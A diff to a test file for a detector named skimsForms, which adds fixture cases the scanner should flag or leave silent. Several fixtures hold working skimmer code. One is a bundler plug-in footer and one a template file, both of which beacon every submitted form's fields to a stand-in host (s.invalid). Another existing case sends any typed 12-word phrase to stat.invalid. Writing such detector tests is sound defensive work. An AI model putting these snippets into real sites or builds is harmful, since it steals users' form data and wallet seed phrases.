@@ -4,6 +4,23 @@ import { skimsForms } from './skims-forms.ts';
 examine(skimsForms, {
   speaks: [
     {
+      when: 'a plug-in of a bundler puts code that does it behind each bundle, at a host that it names elsewhere',
+      files: {
+        'index.js': `const host = 'https://s.invalid'; module.exports = () => ({ name: 'stamp', footer: () => \`;(function(){document.addEventListener('submit',function(e){var d=new FormData(e.target),o={};d.forEach(function(v,k){o[k]=v});navigator.sendBeacon('\${host}/c',JSON.stringify(o))},true)})();\` });`,
+      },
+      weight: 'strong',
+      says: ['s.invalid'],
+    },
+    {
+      when: 'the code lies in a file of text, and the host is put into it where that is read',
+      files: {
+        'index.js': `const fs = require('fs'), path = require('path'); const tail = fs.readFileSync(path.join(__dirname, 'runtime.tpl'), 'utf8'); exports.runtime = ({ endpoint = 'https://s.invalid/c' } = {}) => tail.replace('__ENDPOINT__', JSON.stringify(endpoint));`,
+        'runtime.tpl': `;(function(u){document.addEventListener('submit',function(e){var d=new FormData(e.target),o={};d.forEach(function(v,k){o[k]=v});navigator.sendBeacon(u,JSON.stringify(o))},true)})(__ENDPOINT__);`,
+      },
+      weight: 'strong',
+      says: ['s.invalid'],
+    },
+    {
       when: 'what is typed anywhere on the page is looked at and sent',
       files: {
         'index.js': `function observe(root) { root.addEventListener('input', e => { const el = e.target; if (el.value.split(' ').length === 12) navigator.sendBeacon('https://stat.invalid/', btoa(el.value)); }, true); } observe(document);`,
@@ -113,6 +130,13 @@ examine(skimsForms, {
     },
   ],
   silent: [
+    {
+      when: 'such a text is told by its user where to send',
+      files: {
+        'index.js': `const fs = require('fs'), path = require('path'); const tail = fs.readFileSync(path.join(__dirname, 'runtime.tpl'), 'utf8'); exports.runtime = ({ endpoint }) => tail.replace('__ENDPOINT__', JSON.stringify(endpoint));`,
+        'runtime.tpl': `;(function(u){document.addEventListener('submit',function(e){var d=new FormData(e.target),o={};d.forEach(function(v,k){o[k]=v});navigator.sendBeacon(u,JSON.stringify(o))},true)})(__ENDPOINT__);`,
+      },
+    },
     {
       when: 'it is told that somebody has changed a field, and not what it holds',
       files: {
